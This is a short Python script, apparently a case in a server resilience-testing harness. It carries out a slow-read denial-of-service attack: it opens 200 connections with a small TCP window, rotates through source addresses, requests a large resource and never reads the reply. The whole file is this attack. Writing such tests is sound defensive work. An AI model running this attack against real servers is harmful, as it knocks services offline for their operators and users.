"""Downloads that nobody reads."""

from wire.http1 import request
from wire.link import link

# Little: the kernel's memory for TCP is one here for both sides, and the server's is to be seen.
ROOM = 16384


async def attack(target):
    async def each(number):
        async with link(target, target.source(number % 10), room=ROOM) as it:
            if it:
                await it.send(request("GET", "/large"))
                await target.over()

    await target.once(200, each)
